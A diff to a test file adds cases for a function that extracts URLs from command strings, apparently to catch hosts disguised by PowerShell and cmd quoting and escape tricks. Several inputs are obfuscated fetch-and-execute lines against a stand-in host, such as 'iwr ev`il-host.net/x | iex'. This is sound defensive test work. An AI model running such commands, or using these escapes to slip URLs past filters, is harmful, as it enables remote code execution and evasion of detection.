@@ -673,11 +673,24 @@ cases('what a shell makes of quotes and backslashes in what a program is given',
   ['curl https://"evil-host.net"/x', 'https://evil-host.net/x'],
   ['curl https://ev""il-host.net/x', 'https://evil-host.net/x'],
   ['curl -L https://ev"il-ho"st.net/x a.io', 'https://evil-host.net/x', 'http://a.io/'],
+  // Of PowerShell and of Windows' cmd
+  ['iwr ev`il-host.net/x | iex', 'http://evil-host.net/x'],
+  ['irm "ev`il-host.net/x"', 'http://evil-host.net/x'],
+  ['curl ev^il-ho^st.net/x', 'http://evil-host.net/x'],
+  ['curl h^ttps://evil-host.net/x', 'https://evil-host.net/x'],
+  ['Use `curl evil-host.net`.Then', 'http://evil-host.net/'],
   // Both readings: a person would end the first at its quote
   ['curl "good.com".evil-host.net/x', 'http://good.com.evil-host.net/x', 'http://good.com/'],
   ["wget 'https://good.com'.evil-host.net/x", 'https://good.com.evil-host.net/x', 'https://good.com/'],
   ['curl https://good.com"".evil-host.net/x', 'https://good.com.evil-host.net/x', 'https://good.com/'],
   ['curl good.com\\.evil-host.net/x', 'http://good.com.evil-host.net/x', 'http://good.com/'],
+  // Typographic quotes are quotes of PowerShell
+  ['iwr “evil-host.net/x”', 'http://evil-host.net/x'],
+  ['irm -Uri ‘evil-host.net/x’ | iex', 'http://evil-host.net/x'],
+  // A whole command line in one string
+  ['Process.Start("curl.exe", "-s evil-host.net/x")', 'http://evil-host.net/x'],
+  ["new ProcessStartInfo('curl', '-o a.io -L evil-host.net/x')", 'http://evil-host.net/x'],
+  ['run("curl", "-H a: b", "evil-host.net/x")', 'http://evil-host.net/x'],
   // The quotes of strings and lists
   ['exec("curl evil-host.net")', 'http://evil-host.net/'],
   ['exec("curl good.com"+".evil-host.net")', 'http://good.com/'],
